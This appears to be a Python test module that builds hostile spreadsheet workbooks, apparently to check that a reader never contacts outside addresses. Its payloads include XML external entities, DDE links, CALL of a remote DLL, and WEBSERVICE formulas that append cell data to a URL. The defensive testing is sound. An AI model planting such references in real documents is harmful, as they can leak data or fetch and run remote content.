"""Workbooks that refer to something outside: one function for each kind of reference, given a web address."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from pathlib import Path
from typing import TypeAlias

from tests.hostile import (
    CELLS,
    LINKED_BOOK,
    LINKED_PROGRAM,
    MAIN,
    OFFICE,
    book,
    content_types,
    external_link,
    formula,
    package,
    parts,
    relationships,
    sheet,
    sheet_related,
)

Reach: TypeAlias = Callable[[str, Path], object]
"""Writes a workbook that refers to a web address."""

DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
ANCHOR = (
    "<xdr:oneCellAnchor><xdr:from><xdr:col>0</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>0</xdr:row>"
    '<xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="900000" cy="900000"/>{}<xdr:clientData/></xdr:oneCellAnchor>'
)
SHAPE = (
    '<xdr:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm>'
    '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr>'
)
SHEET_RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels"
DRAWN, DRAWN_RELATIONS = "xl/drawings/drawing1.xml", "xl/drawings/_rels/drawing1.xml.rels"
TYPES = {
    DRAWN: "application/vnd.openxmlformats-officedocument.drawing+xml",
    "xl/charts/chart1.xml": "application/vnd.openxmlformats-officedocument.drawingml.chart+xml",
    "xl/connections.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
    "xl/queryTables/queryTable1.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml",
    "xl/externalLinks/externalLink1.xml": (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    ),
    "xl/styles.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml",
}


def made(path: Path, more: Mapping[str, str], **changed: str | None) -> None:
    """A small workbook with more parts, each of its type."""
    whole = parts(**changed) | dict(more)
    types = "".join(f'<Override PartName="/{part}" ContentType="{TYPES[part]}"/>' for part in TYPES if part in whole)
    default = '<Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>'
    package(path, whole | {"[Content_Types].xml": content_types().replace("</Types>", f"{default}{types}</Types>")})


def of_book(*ties: tuple[str, str, str], sheet: str = "worksheets/sheet1.xml") -> str:
    """The workbook's relationships: to its worksheet, and others."""
    return relationships(("s", "worksheet", sheet), *ties)


def drawn(content: str, *ties: tuple[str, str, str], more: Mapping[str, str] | None = None) -> Callable[[Path], None]:
    """A workbook with a drawing of one thing, and the drawing's relationships."""
    spaces = f'xmlns:xdr="{DRAWING}/spreadsheetDrawing" xmlns:a="{DRAWING}/main" xmlns:r="{OFFICE}"'
    texts = {
        DRAWN: f"<xdr:wsDr {spaces}>{ANCHOR.format(content)}</xdr:wsDr>",
        DRAWN_RELATIONS: relationships(*ties),
        SHEET_RELATIONS: relationships(("d", "drawing", "../drawings/drawing1.xml")),
    }
    return lambda path: made(path, texts | dict(more or {}), SHEET=sheet(CELLS, '<drawing r:id="d"/>'))


def picture(how: str, extra: str = "", kind: str = "image") -> Reach:
    fill = f'<xdr:blipFill><a:blip {how}="x">{extra}</a:blip><a:stretch><a:fillRect/></a:stretch></xdr:blipFill>'
    name = '<xdr:nvPicPr><xdr:cNvPr id="2" name="p"/><xdr:cNvPicPr/></xdr:nvPicPr>'
    return lambda url, path: drawn(f"<xdr:pic>{name}{fill}{SHAPE}</xdr:pic>", ("x", kind, f"{url}x.png"))(path)


def shape(click: str, kind: str, target: str) -> Reach:
    name = f'<xdr:nvSpPr><xdr:cNvPr id="2" name="p">{click}</xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr>'
    return lambda url, path: drawn(f'<xdr:sp macro="">{name}{SHAPE}</xdr:sp>', ("x", kind, f"{url}{target}"))(path)


def chart(inside: str, kind: str, target: str) -> Reach:
    """A chart that has something of elsewhere."""
    frame = (
        '<xdr:graphicFrame macro=""><xdr:nvGraphicFramePr><xdr:cNvPr id="2" name="c"/><xdr:cNvGraphicFramePr/>'
        '</xdr:nvGraphicFramePr><xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic>'
        f'<a:graphicData uri="{DRAWING}/chart"><c:chart xmlns:c="{DRAWING}/chart" r:id="c"/></a:graphicData>'
        "</a:graphic></xdr:graphicFrame>"
    )
    text = (
        f'<c:chartSpace xmlns:c="{DRAWING}/chart" xmlns:a="{DRAWING}/main" xmlns:r="{OFFICE}"><c:chart><c:plotArea>'
        '<c:barChart><c:barDir val="col"/><c:ser><c:idx val="0"/><c:order val="0"/><c:val><c:numRef><c:f>S!$A$1:$C$1'
        '</c:f></c:numRef></c:val></c:ser><c:axId val="1"/><c:axId val="2"/></c:barChart></c:plotArea></c:chart>'
        f"{inside}</c:chartSpace>"
    )

    def make(url: str, path: Path) -> None:
        more = {
            "xl/charts/chart1.xml": text,
            "xl/charts/_rels/chart1.xml.rels": relationships(("x", kind, f"{url}{target}")),
        }
        drawn(frame, ("c", "chart", "../charts/chart1.xml"), more=more)(path)

    return make


def vml(element: str, holder: str) -> Reach:
    """A picture in an old drawing, of a header or of a comment."""

    def make(url: str, path: Path) -> None:
        text = (
            '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
            '<v:shape id="CH" type="#_x0000_t75" style="width:9pt;height:9pt">'
            f"{element.format(url=url)}</v:shape></xml>"
        )
        more = {
            "xl/drawings/vmlDrawing1.vml": text,
            "xl/drawings/_rels/vmlDrawing1.vml.rels": relationships(("x", "image", f"{url}x.png")),
            SHEET_RELATIONS: relationships(("v", "vmlDrawing", "../drawings/vmlDrawing1.vml")),
        }
        header = "<headerFooter><oddHeader>&amp;C&amp;G</oddHeader></headerFooter>"
        made(path, more, SHEET=sheet(CELLS, f'{header}<{holder} r:id="v"/>'))

    return make


def text_before(part: str, head: str) -> Reach:
    """A part with something in front of its first element."""
    text = {"SHEET": sheet(CELLS), "THEME": "<x/>"}[part]
    return lambda url, path: made(path, {}, **{part: head.format(url=url) + text})


def said(text: str) -> Reach:
    """A formula."""
    return lambda url, path: formula(text.replace("URL", url))(path)


WEB = 'type="4" refreshedVersion="8" refreshOnLoad="1" background="0"'


def connection(url: str, path: Path, more: Mapping[str, str] | None = None, names: str = "") -> None:
    text = (
        f'<connections xmlns="{MAIN}"><connection id="1" name="c" {WEB}><webPr sourceData="1" parsePre="1" '
        f'consecutive="1" url="{url}x.html" htmlTables="1"/></connection></connections>'
    )
    ties = of_book(("c", "connections", "connections.xml"))
    made(path, {"xl/connections.xml": text} | dict(more or {}), RELATIONS=ties, BOOK=book(rest=names))


def query_table(url: str, path: Path) -> None:
    text = f'<queryTable xmlns="{MAIN}" name="q" connectionId="1" refreshOnLoad="1"/>'
    links = relationships(("q", "queryTable", "../queryTables/queryTable1.xml"))
    names = '<definedNames><definedName name="q" localSheetId="0">S!$A$1</definedName></definedNames>'
    connection(url, path, {"xl/queryTables/queryTable1.xml": text, SHEET_RELATIONS: links}, names)


def custom_xml(url: str, path: Path) -> None:
    schema = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {url}x.xsd"'
    space = "http://schemas.openxmlformats.org/officeDocument/2006/customXml"
    references = f'<ds:schemaRefs><ds:schemaRef ds:uri="{url}y.xsd"/></ds:schemaRefs>'
    properties = f'<ds:datastoreItem xmlns:ds="{space}">{references}</ds:datastoreItem>'
    more = {
        "customXml/item1.xml": f'<x xmlns="urn:x" {schema}/>',
        "customXml/itemProps1.xml": properties,
        "customXml/_rels/item1.xml.rels": relationships(("p", "customXmlProps", "itemProps1.xml")),
    }
    made(path, more, RELATIONS=of_book(("x", "customXml", "../customXml/item1.xml")))


def used_in(rest_of_book: str, rest_of_sheet: str) -> Reach:
    """A reference to an external link elsewhere than in a cell."""

    def make(url: str, path: Path) -> None:
        link = f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}">{LINKED_BOOK}</externalLink>'
        more = {
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(("t", "externalLinkPath", f"{url}x.xlsx")),
        }
        references = '<externalReferences><externalReference r:id="x"/></externalReferences>'
        made(
            path,
            more,
            RELATIONS=of_book(("x", "externalLink", "externalLinks/externalLink1.xml")),
            BOOK=book(rest=references + rest_of_book),
            SHEET=sheet(CELLS, rest_of_sheet),
        )

    return make


OLE_OBJECT = (
    '<oleObjects><oleObject progId="Paint.Picture" dvAspect="DVASPECT_ICON" link="URLx.bmp" autoLoad="1" '
    'oleUpdate="OLEUPDATE_ALWAYS" r:id="o" shapeId="1025"/></oleObjects>'
)
SOUND = (
    f'<a:hlinkClick xmlns:a="{DRAWING}/main" xmlns:r="{OFFICE}" r:id="x"><a:snd r:embed="x" name="s"/></a:hlinkClick>'
)
SVG = (
    '<a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip '
    'xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:link="x"/></a:ext></a:extLst>'
)

KINDS: dict[str, Reach] = {
    "linked picture": picture("r:link"),
    "picture that is elsewhere": picture("r:embed"),
    "linked SVG": picture("r:embed", SVG),
    "link on a shape": shape('<a:hlinkClick r:id="x"/>', "hyperlink", "x.html"),
    "sound": shape(SOUND, "audio", "x.wav"),
    "film": picture("r:embed", "", "video"),
    "chart of another file": chart(
        '<c:externalData r:id="x"><c:autoUpdate val="1"/></c:externalData>', "package", "x.xlsx"
    ),
    "chart with a picture": chart(
        '<c:spPr><a:blipFill><a:blip r:link="x"/><a:stretch/></a:blipFill></c:spPr>', "image", "x.png"
    ),
    "hyperlink": lambda url, path: made(
        path,
        {SHEET_RELATIONS: relationships(("h", "hyperlink", f"{url}x.html"))},
        SHEET=sheet(CELLS, '<hyperlinks><hyperlink ref="A1" r:id="h"/></hyperlinks>'),
    ),
    "link to a workbook": lambda url, path: external_link(LINKED_BOOK, f"{url}x.xlsx")(path),
    "DDE link": lambda url, path: external_link(
        LINKED_PROGRAM.replace('"cmd"', '"soffice"').replace("/c calc", f"{url}x.xlsx"), f"{url}x.xlsx"
    )(path),
    "OLE link": lambda url, path: external_link(
        '<oleLink r:id="t" progId="Excel.Sheet.12"><oleItems><oleItem name="A1" advise="1" preferPic="1"/></oleItems>'
        "</oleLink>",
        f"{url}x.xlsx",
    )(path),
    "OLE object": lambda url, path: made(
        path,
        {SHEET_RELATIONS: relationships(("o", "oleObject", f"{url}x.bmp"))},
        SHEET=sheet(CELLS, OLE_OBJECT.replace("URL", url)),
    ),
    "name of another workbook": used_in(
        '<definedNames><definedName name="n">[1]S!$A$1</definedName></definedNames>', ""
    ),
    "validation by another workbook": used_in(
        "",
        '<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>[1]S!$A$1:$A$3</formula1>'
        "</dataValidation></dataValidations>",
    ),
    "formula with a path": said("'URL[x.xlsx]S'!A1"),
    "INDIRECT": said("INDIRECT(\"'URLx.ods'#$S.A1\")+INDIRECT(\"'URL[x.xlsx]S'!A1\")"),
    "WEBSERVICE": said('_xlfn.WEBSERVICE("URLx"&A1)'),
    "FILTERXML of WEBSERVICE": said('_xlfn.FILTERXML(_xlfn.WEBSERVICE("URLx"),"//x")'),
    "IMAGE": said('_xlfn.IMAGE("URLx.png")'),
    "HYPERLINK": said('HYPERLINK("URLx.html","click")'),
    "RTD": said('RTD("x.y","127.0.0.1","URLx")'),
    "DDE formula": said("soffice|'URLx.ods'!A1"),
    "DDE function": said('DDE("soffice","URLx.ods","S.A1")'),
    "CALL": said('CALL("URLx.dll","f","J")'),
    "query table": query_table,
    "connection": connection,
    "attached template": lambda url, path: made(path, {}, RELATIONS=of_book(("t", "attachedTemplate", f"{url}x.xltx"))),
    "background": lambda url, path: made(
        path, {SHEET_RELATIONS: relationships(("p", "image", f"{url}x.png"))}, SHEET=sheet(CELLS, '<picture r:id="p"/>')
    ),
    "picture in a header": vml('<v:imagedata o:relid="x" o:title="t"/>', "legacyDrawingHF"),
    "picture by its address in a header": vml('<v:imagedata src="{url}x.png"/>', "legacyDrawingHF"),
    "picture in a comment": vml('<v:fill o:relid="x" type="frame" src="{url}x.png"/>', "legacyDrawing"),
    "schema of custom XML": custom_xml,
    "entity": text_before("SHEET", '<!DOCTYPE worksheet [<!ENTITY a SYSTEM "{url}x">]>'),
    "parameter entity": text_before("SHEET", '<!DOCTYPE worksheet [<!ENTITY % a SYSTEM "{url}x.dtd"> %a;]>'),
    "document type": text_before("SHEET", '<!DOCTYPE worksheet SYSTEM "{url}x.dtd">'),
    "document type in a theme": text_before("THEME", '<!DOCTYPE x SYSTEM "{url}x.dtd">'),
    "style sheet for XML": text_before("SHEET", '<?xml-stylesheet type="text/xsl" href="{url}x.xsl"?>'),
    "worksheet that is elsewhere": lambda url, path: made(
        path, {}, RELATIONS=relationships(("s", "worksheet", f"{url}sheet1.xml"))
    ),
    "texts that are elsewhere": lambda url, path: made(
        path, {}, RELATIONS=of_book(("t", "sharedStrings", f"{url}strings.xml"))
    ),
    "styles that are elsewhere": lambda url, path: made(
        path, {}, RELATIONS=of_book(("y", "styles", f"{url}styles.xml"), ("z", "theme", f"{url}theme.xml"))
    ),
    "table that is elsewhere": lambda url, path: made(
        path,
        {SHEET_RELATIONS: relationships(("t", "table", f"{url}table1.xml"))},
        SHEET=sheet(CELLS, '<tableParts count="1"><tablePart r:id="t"/></tableParts>'),
    ),
    "control": lambda url, path: sheet_related("control", f"{url}x.ocx")(path),
    "thumbnail": lambda url, path: made(
        path, {}, ROOT=relationships(("r", "officeDocument", "xl/workbook.xml"), ("t", "thumbnail", f"{url}x.png"))
    ),
}
"""Each kind by its name."""

REFUSED = {
    "entity": "a document type declaration",
    "parameter entity": "a document type declaration",
    "document type": "a document type declaration",
    "document type in a theme": "a document type declaration",
    "worksheet that is elsewhere": "worksheet 'S' is missing from the package",
    "table that is elsewhere": "a table of xl/worksheets/sheet1.xml is missing from the package",
}
"""Those that are not even read, and why."""
